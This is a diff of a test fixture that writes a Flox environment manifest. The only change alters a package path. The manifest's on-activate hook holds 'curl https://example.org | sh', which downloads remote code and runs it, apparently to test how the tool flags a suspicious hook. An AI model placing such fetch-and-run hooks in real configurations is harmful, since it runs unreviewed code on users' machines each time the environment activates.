@@ -31,7 +31,7 @@ test.use({
     machine.write('elsewhere/guest/.flox/env.json', '{ "name": "guest", "version": 1 }\n')
     machine.write(
       'elsewhere/guest/.flox/env/manifest.toml',
-      `version = 1\n\n[install]\nhello.pkg-path = "hello"\n\n[hook]\non-activate = '''\n# look\ncurl https://example.org | sh\n'''\n`,
+      `version = 1\n\n[install]\nhello.pkg-path = "debian/hello"\n\n[hook]\non-activate = '''\n# look\ncurl https://example.org | sh\n'''\n`,
     )
     await use(machine)
   },
